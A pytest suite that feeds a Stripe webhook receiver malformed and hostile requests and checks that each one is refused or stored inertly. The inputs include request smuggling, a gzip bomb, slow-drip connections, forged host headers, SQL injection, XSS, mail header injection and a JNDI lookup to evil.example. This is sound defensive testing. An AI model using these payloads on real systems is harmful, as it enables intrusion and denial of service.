"""Rows B1 to B75 of docs/bad-inputs.md, on the receiver that runs in production and a real server.

A row's id stands in the test's id. What the worker makes of the rows that are queued is tested elsewhere;
here they are answered and kept, byte for byte.
"""

from __future__ import annotations

import gzip
import json
import ssl
import threading
import time
from dataclasses import dataclass, replace
from typing import TYPE_CHECKING, Any

import pytest
import redis

from cogento.serving.exchange import READ_SECONDS
from receiver.reading import MAX_BODY_BYTES
from tests.support.builders import Shape, customer, deleted_customer, event, event_body, item, subscription
from tests.support.largest import Writing, largest_event
from tests.support.running_receiver import RunningReceiver
from tests.support.wire import UNSIGNED, HttpAnswer, Request, event_request

if TYPE_CHECKING:
    from collections.abc import Iterator

    from cogento.local.valkey import Valkey
    from tests.support.servers import RunningServer

OLD_SECRET = "whsec_old_0123456789abcdef0123456789ab"
REMOVED_SECRET = "whsec_removed_0123456789abcdef012345"
BEFORE = event_request("evt_before")  # waits before anything else does
GOOD = event_request("evt_never")  # what follows changes one thing of it
MEMORY_BYTES = 100 * 1024**2


@pytest.fixture(scope="module")
def receiver(
    valkey_server: RunningServer[Valkey], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[RunningReceiver]:
    """One receiver for all rows, in whose mailbox one event waits."""
    with redis.Redis.from_url(valkey_server.url) as client:
        client.flushall()
    secrets = f"{BEFORE.secret},{OLD_SECRET}"
    log = tmp_path_factory.mktemp("receiver") / "log"
    running = RunningReceiver(valkey_server.url, log, STRIPE_WEBHOOK_SECRET=secrets)
    running.await_answer()
    assert running.ask(BEFORE).outcome == (200, "queued")
    yield running
    running.stop()


@pytest.fixture
def untouched(receiver: RunningReceiver) -> Iterator[None]:
    """Nothing that the test does is stored, and the receiver goes on."""
    before = receiver.digest()
    yield
    assert receiver.digest() == before
    assert receiver.get("/healthz").status == 200


@pytest.mark.usefixtures("untouched")
@pytest.mark.parametrize("method", ["GET", "HEAD", "PUT", "DELETE", "TRACE", "OPTIONS", "FOO"])
def test_b1_other_methods_are_told_which_one_is_right(receiver: RunningReceiver, method: str) -> None:
    answer = receiver.ask(replace(GOOD, method=method))
    assert (answer.status, answer.headers["allow"]) == (405, "POST")


def refused(id_: str, request: Request | bytes, status: int, code: str) -> Any:
    return pytest.param(request, status, code, id=id_)


def unsigned(id_: str, **changes: Any) -> Any:
    return refused(id_, replace(GOOD, **changes), 400, "signature_invalid")


def malformed(id_: str, body: bytes | str | Any) -> Any:
    whole = body if isinstance(body, bytes) else json.dumps(body).encode()
    return refused(id_, Request(whole), 400, "malformed")


def changed(**fields: Any) -> dict[str, Any]:
    """An event with top-level fields replaced."""
    return {**event("customer.updated", customer()), **fields}


def without(field: str) -> dict[str, Any]:
    return {name: value for name, value in changed().items() if name != field}


def nested(levels: int, *, opening: bytes, closing: bytes) -> bytes:
    """An event that nests so deep, itself, `data` and `object` counted."""
    inside = levels - 3
    return event_body("customer.updated", customer(metadata="HERE")).replace(
        b'"HERE"', opening * inside + b"1" + closing * inside
    )


def with_number(number: str) -> bytes:
    """An event whose customer has this balance."""
    return event_body("customer.updated", customer(balance="HERE"), id_="evt_never").replace(
        b'"HERE"', number.encode()
    )


RAW_EVENT = event_body("customer.updated", customer())

HTTP_ROWS = [
    refused("B2-root", replace(GOOD, target="/"), 404, "not_found"),
    refused("B2-two-slashes", replace(GOOD, target="//webhooks/stripe"), 404, "not_found"),
    refused("B2-slash-behind", replace(GOOD, target="/webhooks/stripe/"), 404, "not_found"),
    refused("B2-dots", replace(GOOD, target="/webhooks/%2e%2e/webhooks/stripe"), 404, "not_found"),
    refused("B2-upper-case", replace(GOOD, target="/Webhooks/Stripe"), 404, "not_found"),
    refused("B3-no-type", replace(GOOD, content_type=None), 415, "media_type_unsupported"),
    refused("B3-text", replace(GOOD, content_type="text/plain"), 415, "media_type_unsupported"),
    refused(
        "B3-form",
        replace(GOOD, content_type="application/x-www-form-urlencoded"),
        415,
        "media_type_unsupported",
    ),
    refused(
        "B3-multipart",
        replace(GOOD, content_type="multipart/form-data; boundary=x"),
        415,
        "media_type_unsupported",
    ),
    refused(
        "B4", replace(GOOD, content_type="application/json; charset=utf-16"), 415, "media_type_unsupported"
    ),
    refused("B5-gzip", replace(GOOD, headers=("Content-Encoding: gzip",)), 415, "encoding_unsupported"),
    refused(
        "B5-bomb",
        Request(gzip.compress(bytes(2 * MAX_BODY_BYTES)), headers=("Content-Encoding: gzip",)),
        415,
        "encoding_unsupported",
    ),
    refused(
        "B6",
        Request(
            b"2\r\n{}\r\n0\r\n\r\n",
            length=None,
            headers=("Transfer-Encoding: chunked",),
            signed_body=b"{}",
        ),
        400,
        "malformed",
    ),
    refused(
        "B6-two-codings",
        replace(GOOD, length=None, headers=("Transfer-Encoding: gzip, chunked",)),
        415,
        "encoding_unsupported",
    ),
    refused("B8", replace(GOOD, length=None), 411, "length_required"),
    refused("B9", replace(GOOD, body=b"", length="100000000"), 413, "body_too_large"),
    refused("B10", Request(b" " * (MAX_BODY_BYTES + 1)), 413, "body_too_large"),
    refused("B12-negative", replace(GOOD, length="-1"), 400, "bad_request"),
    refused("B12-plus", replace(GOOD, length="+2"), 400, "bad_request"),
    refused("B12-letters", replace(GOOD, length="abc"), 400, "bad_request"),
    refused("B12-exponent", replace(GOOD, length="1e3"), 400, "bad_request"),
    refused("B12-two-lengths", replace(GOOD, headers=("Content-Length: 5",)), 400, "bad_request"),
    refused("B12-list-of-lengths", replace(GOOD, length="5, 5"), 400, "bad_request"),
    refused("B13", replace(GOOD, headers=("Transfer-Encoding: chunked",)), 400, "bad_request"),
    refused("B13-other-coding", replace(GOOD, headers=("Transfer-Encoding: gzip",)), 400, "bad_request"),
    refused("B13-hidden", replace(GOOD, headers=("Transfer-Encoding: xchunked",)), 400, "bad_request"),
    refused("B15-signed", Request(b""), 400, "malformed"),
    refused("B15-unsigned", Request(b"", signature=UNSIGNED), 400, "signature_invalid"),
    refused("B18-9-KB", replace(GOOD, headers=(f"X-Long: {'a' * 9216}",)), 431, "headers_too_large"),
    refused(
        "B18-150", replace(GOOD, headers=tuple(f"X-{n}: a" for n in range(150))), 431, "headers_too_large"
    ),
    refused("B19-long", replace(GOOD, target=f"/webhooks/stripe?{'a' * 5120}"), 414, "uri_too_long"),
    refused("B19-nul", replace(GOOD, target="/webhooks/stripe?a=\0"), 400, "bad_request"),
    refused("B20-rubbish", bytes(range(256)) + b"\r\n\r\n", 400, "bad_request"),
    refused("B21-cr", replace(GOOD, headers=("X-Odd: a\rb",)), 400, "bad_request"),
    refused("B21-lf", replace(GOOD, headers=("X-Odd: a\nX-Even: b",)), 400, "bad_request"),
    refused("B21-folded", replace(GOOD, headers=("X-Odd: a\r\n b",)), 400, "bad_request"),
    refused("B21-nul", replace(GOOD, headers=("X-Odd: a\0b",)), 400, "bad_request"),
]

SIGNATURE_ROWS = [
    unsigned("B24-missing", signature=UNSIGNED),
    unsigned("B24-empty", signature=" "),
    unsigned("B24-two", headers=("Stripe-Signature: t=1,v1=00",)),
    unsigned("B24-two-that-make-one", headers=(f"Stripe-Signature: v1={'0' * 64}",)),
    unsigned("B25-v0", signature="t={t},v0={v1}"),
    unsigned("B25-v9", signature="t={t},v9={v1}"),
    unsigned("B26-other-body", signed_body=b"{}"),
    unsigned("B26-bit-of-the-body", signed_body=GOOD.body.replace(b"evt_never", b"evt_nevez")),
    unsigned("B26-bit-of-t", signature="t=1{t},v1={v1}"),
    unsigned("B26-bit-of-v1", signature=f"t={{t}},v1={'0' * 64}"),
    unsigned("B27-other-endpoint", secret="whsec_ffffffffffffffffffffffffffffffff"),
    unsigned("B27-prefix-cut", secret=BEFORE.secret.removeprefix("whsec_")),
    unsigned("B28-other-spaces", signed_body=json.dumps(json.loads(GOOD.body)).encode()),
    unsigned(
        "B28-other-order", signed_body=json.dumps(json.loads(GOOD.body), indent=2, sort_keys=True).encode()
    ),
    unsigned(
        "B28-other-escapes",
        body=GOOD.body.replace(b"Ada", b"\\u0041da"),
        signed_body=GOOD.body,
    ),
    unsigned("B29-upper-case", signature="t={t},v1={V1}"),
    unsigned("B29-space", signature="t={t},v1= {v1}"),
    unsigned("B29-base64", signature="t={t},v1=qL0p3k7lJ0bGk0y2m0l9b3d5f7h9k1n3p5r7t9v1x3z="),
    unsigned("B29-63", signature="t={t},v1={short}"),
    unsigned("B29-65", signature="t={t},v1={v1}0"),
    unsigned("B30-alone", signature="t={t},v1=\u00e9"),
    unsigned("B30-before-a-good-one", signature="t={t},v1=\u00e9,v1={v1}"),
    refused("B31-1000", replace(GOOD, signature="t={t}" + ",v1={v1}" * 1000), 431, "headers_too_large"),
    unsigned("B31-100", signature="t={t}" + ",v1={v1}" * 100),
    unsigned("B31-11", signature="t={t}" + ",v1={v1}" * 11),
    unsigned("B32-missing", signature="v1={v1}"),
    unsigned("B32-twice", signature="t={t},t={t},v1={v1}"),
    unsigned("B32-empty", signature="t=,v1={v1}"),
    unsigned("B32-letters", signature="t=abc,v1={v1}"),
    unsigned("B32-underscores", signature="t=1_000,v1={v1}"),
    unsigned("B32-plus", signature="t=+{t},v1={v1}"),
    unsigned("B32-space", signature="t= {t},v1={v1}"),
    unsigned("B32-superscript-digits", signature="t=\u00b2\u00b3,v1={v1}"),
    unsigned("B32-5000-digits", signature=f"t={'1' * 5000},v1={{v1}}"),
    unsigned("B32-negative", signature="t=-{t},v1={v1}"),
    unsigned("B32-exponent", signature="t=1e9,v1={v1}"),
    unsigned("B32-hexadecimal", signature="t=0x68e7,v1={v1}"),
    unsigned("B33-301-s-old", age_seconds=301),
    unsigned("B34-302-s-ahead", age_seconds=-302),
    unsigned("B34-ten-years-ahead", age_seconds=-315_360_000),
    unsigned("B35-after-rotation", secret=REMOVED_SECRET),
    unsigned("B36-empty-key", secret=""),
    unsigned("B39", age_seconds=3600),
    unsigned("B40-no-comma", signature="t={t}"),
    unsigned("B40-no-equals", signature="t{t},v1{v1}"),
    unsigned("B40-commas", signature=",,,"),
    unsigned("B40-empty-signature", signature="t={t},v1="),
]

JSON_ROWS = [
    malformed("B41-list", b"[]"),
    malformed("B41-text", b'"x"'),
    malformed("B41-number", b"1"),
    malformed("B41-null", b"null"),
    malformed("B41-true", b"true"),
    malformed("B42-empty", b"{}"),
    malformed("B42-no-id", without("id")),
    malformed("B42-id-null", changed(id=None)),
    malformed("B42-id-number", changed(id=5)),
    malformed("B42-id-empty", changed(id="")),
    malformed("B42-id-10-KB", changed(id="evt_" + "a" * 10_240)),
    malformed("B42-id-customer", changed(id="cus_1")),
    malformed("B42-id-spaces", changed(id="evt_1 2")),
    malformed("B42-id-path", changed(id="evt_../../x")),
    malformed("B42-id-newline", changed(id="evt_1\n")),
    malformed("B42-no-type", without("type")),
    malformed("B43-cut", RAW_EVENT[:-10]),
    malformed("B43-trailing", RAW_EVENT + b"x"),
    malformed("B43-two", RAW_EVENT + RAW_EVENT),
    malformed("B43-comment", RAW_EVENT + b"// x"),
    malformed("B43-single-quotes", RAW_EVENT.replace(b'"', b"'")),
    malformed("B43-trailing-comma", RAW_EVENT.rstrip(b"}\n") + b",}"),
    malformed("B44-bom", b"\xef\xbb\xbf" + RAW_EVENT),
    malformed("B44-utf-16", RAW_EVENT.decode().encode("utf-16")),
    malformed("B44-ff-fe", RAW_EVENT.replace(b"Ada", b"\xff\xfe")),
    malformed("B44-overlong-nul", RAW_EVENT.replace(b"Ada", b"\xc0\x80")),
    malformed("B45-nan", with_number("NaN")),
    malformed("B45-infinity", with_number("Infinity")),
    malformed("B45-minus-infinity", with_number("-Infinity")),
    malformed("B47-65-objects", nested(65, opening=b'{"a":', closing=b"}")),
    malformed("B47-65-lists", nested(65, opening=b"[", closing=b"]")),
    malformed("B47-1000", nested(1000, opening=b'{"a":', closing=b"}")),
    malformed("B47-100000-objects", nested(100_000, opening=b'{"a":', closing=b"}")),
    malformed("B47-100000-lists", nested(100_000, opening=b"[", closing=b"]")),
    malformed("B47-100000-unclosed", b"[" * 100_000),
    malformed("B48-20-digits", with_number("1" * 20)),
    malformed("B48-5000-digits", with_number("1" * 5000)),
    malformed("B48-1000000-digits", with_number("1" * 1_000_000)),
    malformed(
        "B49-created-1e400",
        RAW_EVENT.replace(b'"created": 1760000000,\n  "data"', b'"created": 1e400,\n  "data"'),
    ),
    malformed("B49-created-minus-0", changed(created=-0)),
    malformed("B51-id", changed(id="evt_\0")),
    malformed("B52-id", changed(id="evt_\ud800")),
    malformed("B62-0", changed(created=0)),
    malformed("B62-negative", changed(created=-1)),
    malformed("B62-year-9999", changed(created=253_370_764_800)),
    malformed("B62-float", changed(created=1_760_000_000.5)),
    malformed("B62-text", changed(created="1760000000")),
    malformed("B62-true", changed(created=True)),
    malformed("B63-no-data", without("data")),
    malformed("B63-list", changed(data={"object": []})),
    malformed("B63-null", changed(data={"object": None})),
    malformed("B63-text", changed(data={"object": "cus_1"})),
    malformed("B63-no-id", changed(data={"object": {"object": "customer"}})),
    malformed("B63-id-number", changed(data={"object": {"id": 1}})),
    refused(
        "B59",
        Request(
            b'{"id": "evt_1", "object": "v2.core.event", "type": "v1.customer.updated", "created": "2026-01-01"}'
        ),
        400,
        "thin_event_unsupported",
    ),
]


def quickest(receiver: RunningReceiver, request: Request | bytes) -> tuple[HttpAnswer, float]:
    """Ask three times; return the first answer and the least seconds: a busy machine may hold up one of them."""
    answers, seconds = [], []
    for _ in range(3):
        begun = time.monotonic()
        answers.append(receiver.ask(request))
        seconds.append(time.monotonic() - begun)
    return answers[0], min(seconds)


@pytest.mark.usefixtures("untouched")
@pytest.mark.parametrize(("request_", "status", "code"), [*HTTP_ROWS, *SIGNATURE_ROWS, *JSON_ROWS])
def test_it_is_refused_within_a_second_and_nothing_is_stored(
    receiver: RunningReceiver, request_: Request | bytes, status: int, code: str
) -> None:
    answer, seconds = quickest(receiver, request_)
    assert answer.error == (status, code)
    assert seconds < 1


@pytest.mark.usefixtures("untouched")
def test_b7_an_endless_chunked_body_is_refused_and_costs_no_memory(receiver: RunningReceiver) -> None:
    before = receiver.memory_bytes()
    head = replace(GOOD, body=b"", length=None, headers=("Transfer-Encoding: chunked",))
    with receiver.connect() as connection:
        connection.send(head.wire())
        sender = threading.Thread(target=connection.send, args=(b"fffffff\r\n" + bytes(4 * MAX_BODY_BYTES),))
        sender.start()
        answer = connection.read()
        sender.join()
    assert answer
    assert answer.error == (413, "body_too_large")
    assert receiver.memory_bytes() < 1.1 * before


def test_b11_the_longest_body_is_queued(receiver: RunningReceiver) -> None:
    body = largest_event("evt_b11", Writing.ESCAPED_PAIRS)
    body += b" " * (MAX_BODY_BYTES - len(body))
    assert receiver.ask(Request(body)).outcome == (200, "queued")
    assert receiver.stored_body("evt_b11") == body


@pytest.mark.usefixtures("untouched")
def test_b13_a_request_smuggled_in_a_body_is_not_answered(receiver: RunningReceiver) -> None:
    smuggled = b"0\r\n\r\nGET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n"
    with receiver.connect() as connection:
        answer = connection.ask(replace(GOOD, body=smuggled, headers=("Transfer-Encoding: chunked",)))
        assert answer.status == 400
        assert connection.is_closed()


@pytest.mark.usefixtures("untouched")
def test_b14_a_body_that_ends_early_is_refused(receiver: RunningReceiver) -> None:
    with receiver.connect() as connection:
        connection.send(replace(GOOD, body=b"{}", length="50").wire())
        connection.socket.shutdown(1)
        answer = connection.read()
    assert answer
    assert answer.error == (400, "body_incomplete")


@dataclass(frozen=True)
class Dribble:
    """How the receiver fared while 80 clients sent one byte a second."""

    slowest_headers_seconds: float
    slowest_body_seconds: float
    good_p99_seconds: float


@pytest.fixture(scope="module")
def dribble(receiver: RunningReceiver) -> Dribble:
    heads = [receiver.connect() for _ in range(40)]
    bodies = [receiver.connect() for _ in range(40)]
    begun = time.monotonic()
    for connection in bodies:
        connection.send(replace(GOOD, body=b"").wire().replace(b"Content-Length: 0", b"Content-Length: 500"))
    stop = threading.Event()
    dribbler = threading.Thread(target=_dribble, args=([*heads, *bodies], stop))
    dribbler.start()
    times = sorted(_timed(receiver, number) for number in range(200))
    ends = [_seconds_until_cut(connection, begun) for connection in [*heads, *bodies]]
    stop.set()
    dribbler.join()
    return Dribble(max(ends[:40]), max(ends[40:]), times[int(len(times) * 0.99)])


def _dribble(connections: list[Any], stop: threading.Event) -> None:
    for byte in GOOD.wire():
        for connection in connections:
            connection.send(bytes((byte,)))
        if stop.wait(1):
            return


def _timed(receiver: RunningReceiver, number: int) -> float:
    begun = time.monotonic()
    assert receiver.ask(event_request(f"evt_dribble_{number}")).outcome == (200, "queued")
    return time.monotonic() - begun


def _seconds_until_cut(connection: Any, begun: float) -> float:
    with connection:
        while not connection.is_closed():
            pass
    return time.monotonic() - begun


def test_b16_slow_headers_hold_up_nobody_and_are_cut(dribble: Dribble) -> None:
    assert dribble.good_p99_seconds < 0.5
    assert dribble.slowest_headers_seconds < READ_SECONDS + 1


def test_b17_slow_bodies_hold_up_nobody_and_are_cut(dribble: Dribble) -> None:
    assert dribble.good_p99_seconds < 0.5
    assert dribble.slowest_body_seconds < READ_SECONDS + 1


@pytest.mark.usefixtures("untouched")
def test_b20_http_0_9_is_not_answered(receiver: RunningReceiver) -> None:
    with receiver.connect() as connection:
        connection.send(b"GET /metrics\r\n")
        connection.socket.shutdown(1)
        assert connection.is_closed()


@pytest.mark.usefixtures("untouched")
def test_b20_tls_is_refused_or_cut_and_its_bytes_are_not_logged(receiver: RunningReceiver) -> None:
    with receiver.connect() as connection:
        connection.send(_client_hello())
        connection.socket.shutdown(1)
        answer = connection.read()
    assert answer is None or answer.status == 400
    assert receiver.log.read_text().isascii()


def _client_hello() -> bytes:
    sent = ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), sent, server_hostname="localhost")
    with pytest.raises(ssl.SSLWantReadError):
        client.do_handshake()
    return sent.read()


@pytest.mark.parametrize(
    "header",
    [
        pytest.param("X-Forwarded-For: 127.0.0.1", id="B22-for"),
        pytest.param("X-Forwarded-Host: evil.example", id="B22-host"),
        pytest.param("X-Forwarded-Proto: gopher", id="B22-proto"),
        pytest.param("SCRIPT_NAME: /webhooks", id="B22-script-name"),
        pytest.param("PATH_INFO: /metrics", id="B22-path-info"),
        pytest.param("Forwarded: for=127.0.0.1;host=evil.example", id="B22-forwarded"),
    ],
)
def test_b22_forged_headers_change_nothing(receiver: RunningReceiver, header: str) -> None:
    answer = receiver.ask(replace(BEFORE, headers=(header,)))
    assert answer.outcome == (200, "duplicate")
    assert "evil" not in str(answer)


def test_b22_another_host_changes_nothing(receiver: RunningReceiver) -> None:
    answer = receiver.ask(BEFORE.wire().replace(b"Host: localhost", b"Host: evil.example"))
    assert answer.outcome == (200, "duplicate")
    assert "evil" not in str(answer)


@pytest.mark.usefixtures("untouched")
def test_b23_a_flood_of_unsigned_requests_is_refused_and_logged_in_few_lines(
    receiver: RunningReceiver,
) -> None:
    lines = len(receiver.lines("signature_refused"))
    refusals = receiver.metric('cogento_webhook_requests_total{outcome="signature_invalid"}')
    with receiver.connect() as connection:
        statuses = {connection.ask(replace(GOOD, signature=UNSIGNED)).status for _ in range(1000)}
    assert statuses == {400}
    assert len(receiver.lines("signature_refused")) - lines <= 2
    after = receiver.metric('cogento_webhook_requests_total{outcome="signature_invalid"}')
    assert after - refusals == 1000


@pytest.mark.parametrize("age", [pytest.param(299, id="B33"), pytest.param(-299, id="B34")])
def test_a_signature_just_inside_the_window_is_accepted(receiver: RunningReceiver, age: int) -> None:
    assert receiver.ask(replace(BEFORE, age_seconds=age)).outcome == (200, "duplicate")


def test_b35_the_old_secret_of_a_rotation_is_accepted_and_counted(receiver: RunningReceiver) -> None:
    sample = 'cogento_signature_secret_matches_total{secret_index="1"}'
    before = receiver.metric(sample)
    assert receiver.ask(replace(BEFORE, secret=OLD_SECRET)).outcome == (200, "duplicate")
    assert receiver.metric(sample) == before + 1


def test_b38_a_thousand_replays_are_one_event(receiver: RunningReceiver) -> None:
    waiting = receiver.waiting()
    request = event_request("evt_b38")
    with receiver.connect() as connection:
        outcomes = [connection.ask(request).outcome for _ in range(1000)]
    assert outcomes == [(200, "queued")] + [(200, "duplicate")] * 999
    assert receiver.waiting() == waiting + 1


@pytest.mark.usefixtures("untouched")
def test_b50_a_megabyte_of_empty_objects_is_refused_in_time_and_memory(receiver: RunningReceiver) -> None:
    answer, seconds = quickest(receiver, Request(b"[" + b"{}," * 349_000 + b"{}]"))
    assert answer.error == (400, "malformed")
    assert seconds < 1
    assert receiver.memory_bytes() < MEMORY_BYTES


@pytest.mark.usefixtures("untouched")
@pytest.mark.parametrize(
    ("fields", "alarm"),
    [
        pytest.param({"livemode": True}, "other_mode_fenced", id="B60-live"),
        pytest.param({"livemode": None}, "other_mode_fenced", id="B60-missing"),
        pytest.param({"account": "acct_1"}, "other_account_fenced", id="B61"),
    ],
)
def test_events_of_others_are_acknowledged_and_fenced(
    receiver: RunningReceiver, fields: dict[str, Any], alarm: str
) -> None:
    body = event_body("customer.updated", customer(), id_="evt_never", **fields)
    assert receiver.ask(Request(body)).outcome == (200, "ignored")
    assert receiver.lines(alarm)


@pytest.mark.usefixtures("untouched")
@pytest.mark.parametrize("type_", ["invoice.paid", "customer.source.updated", "no.such.type", "customer"])
def test_b58_events_of_other_types_are_ignored(receiver: RunningReceiver, type_: str) -> None:
    body = event_body(type_, {"id": "in_1", "object": "invoice"}, id_="evt_never")
    assert receiver.ask(Request(body)).json == {"status": "ignored", "event": "evt_never"}


def test_b72_the_same_id_with_another_body_is_a_duplicate_and_an_alarm(receiver: RunningReceiver) -> None:
    first = event_body("customer.updated", customer(name="Ada"), id_="evt_b72")
    second = event_body("customer.updated", customer(name="Eve"), id_="evt_b72")
    assert receiver.ask(Request(first)).outcome == (200, "queued")
    assert receiver.ask(Request(second)).outcome == (200, "duplicate")
    assert receiver.stored_body("evt_b72") == first
    assert receiver.lines("conflicting_duplicate_received")
    assert receiver.metric("cogento_webhook_conflicting_duplicates_total") == 1


def queued(
    row: str, type_: str, object_: Any, *, swap: tuple[bytes, bytes] = (b"", b""), **fields: Any
) -> Any:
    """A row that is queued as it came; `swap` puts in bytes that no JSON writer would write."""
    id_ = f"evt_{row.lower().replace('-', '_')}"
    body = event_body(type_, object_, id_=id_, **fields).replace(*swap)
    return pytest.param(id_, body, id=row)


def updated(row: str, *, swap: tuple[bytes, bytes] = (b"", b""), **fields: Any) -> Any:
    return queued(row, "customer.updated", customer(**fields), swap=swap)


HERE = b'"HERE"'
MANY_KEYS = {f"key_{number}": "x" for number in range(10_000)}

QUEUED_ROWS = [
    updated(
        "B46-top", swap=(b'"livemode": false,\n  "pending', b'"livemode": true, "livemode": false, "pending')
    ),
    updated("B46-object", name="HERE", swap=(HERE, b'"Ada", "name": "Eve"')),
    updated("B46-metadata", metadata="HERE", swap=(HERE, b'{"a": "1", "a": "2"}')),
    updated("B47-64-lists", metadata="HERE", swap=(HERE, b"[" * 61 + b"]" * 61)),
    updated("B49-1e400", balance="HERE", swap=(HERE, b"1e400")),
    updated("B49-1e200000", balance="HERE", swap=(HERE, b"1e200000")),
    updated("B49-tiny", balance="HERE", swap=(HERE, b"1e-400")),
    updated("B49-minus-0", balance="HERE", swap=(HERE, b"-0")),
    updated("B50-in-metadata", metadata="HERE", swap=(HERE, b"[" + b"{}," * 300_000 + b"{}]")),
    updated("B51-name", name="A\0da"),
    updated("B51-email", email="a\0@example.com"),
    updated("B51-metadata-key", metadata={"a\0": "1"}),
    updated("B51-metadata-value", metadata={"a": "\0"}),
    updated("B52-name", name="A\ud800da"),
    updated("B52-email", email="a\udfff@example.com"),
    updated("B52-metadata-key", metadata={"a\ud800": "1"}),
    updated("B52-metadata-value", metadata={"a": "\udc00\ud800"}),
    updated("B53-controls", name="\x01\x1f\x7f\x9b"),
    updated("B53-override", name="\u202egnp.exe"),
    updated("B53-zero-width", name="A\u200bda\ufeff"),
    updated("B53-emoji-raw", name="HERE", swap=(HERE, '"\U0001f600"'.encode())),
    updated("B54-10-KB", email="a" * 10_240 + "@example.com"),
    updated("B54-no-at", email="ada"),
    updated("B54-upper-case", email="ADA@EXAMPLE.COM"),
    updated("B54-idn", email="ada@b\u00fccher.example"),
    updated("B54-newline", email="ada@example.com\nBcc: eve@example.com"),
    updated("B54-script", email='"<script>alert(1)</script>"@example.com'),
    updated(
        "B55",
        name="'; DROP TABLE users;--",
        email="'; DROP TABLE users;--@example.com",
        metadata={"'; DROP TABLE users;--": "'; DROP TABLE users;--"},
    ),
    updated("B56-proto", metadata={"__proto__": "x", "constructor": "x", "": "x"}),
    updated("B56-10000-keys", metadata=MANY_KEYS),
    updated("B57", name="{{7*7}} ${jndi:ldap://evil.example} %s%n \x1b[31m"),
    queued("B64", "customer.updated", {"id": "ch_1", "object": "charge"}),
    queued("B64-subscription", "customer.subscription.updated", customer()),
    queued(
        "B65-unknown-version",
        "customer.subscription.updated",
        subscription(),
        api_version="2031-01-01.zircon",
    ),
    queued("B65-no-version", "customer.subscription.updated", subscription(), api_version=None),
    queued("B65-old-period", "customer.subscription.updated", subscription(shape=Shape.LEGACY)),
    queued("B66", "customer.subscription.created", subscription(customer="cus_unknown")),
    queued("B66-without-customer", "customer.subscription.created", subscription(customer=None)),
    queued("B67-first", "customer.created", customer("cus_b67_1", email="same@example.com")),
    queued("B67-second", "customer.created", customer("cus_b67_2", email="same@example.com")),
    updated("B68", email=None),
    queued("B69", "customer.subscription.updated", subscription(status="frobnicated")),
    queued("B70-newer", "customer.updated", customer("cus_b70"), created=1_760_000_010),
    queued("B70-older", "customer.updated", customer("cus_b70"), created=1_760_000_000),
    queued("B70-deleted", "customer.deleted", deleted_customer("cus_b70"), created=1_760_000_020),
    queued("B70-created", "customer.created", customer("cus_b70"), created=1_750_000_000),
    queued("B71-one", "customer.updated", customer("cus_b71", name="Ada")),
    queued("B71-other", "customer.updated", customer("cus_b71", name="Eve")),
    queued("B74", "customer.subscription.updated", subscription(customer="cus_other")),
    queued("B74-items", "customer.subscription.updated", subscription(items=[item("si_1"), item("si_2")])),
    queued("B75-deleted", "customer.deleted", deleted_customer("cus_b75")),
    queued("B75-later", "customer.updated", customer("cus_b75")),
]


@pytest.mark.parametrize(("id_", "body"), QUEUED_ROWS)
def test_it_is_queued_within_a_second_byte_for_byte(receiver: RunningReceiver, id_: str, body: bytes) -> None:
    answer, seconds = quickest(receiver, Request(body))
    assert answer.json == {"status": "queued", "event": id_}
    assert seconds < 1
    assert receiver.stored_body(id_) == body


def test_no_memory_was_lost_over_all_that(receiver: RunningReceiver) -> None:
    assert receiver.memory_bytes() < MEMORY_BYTES
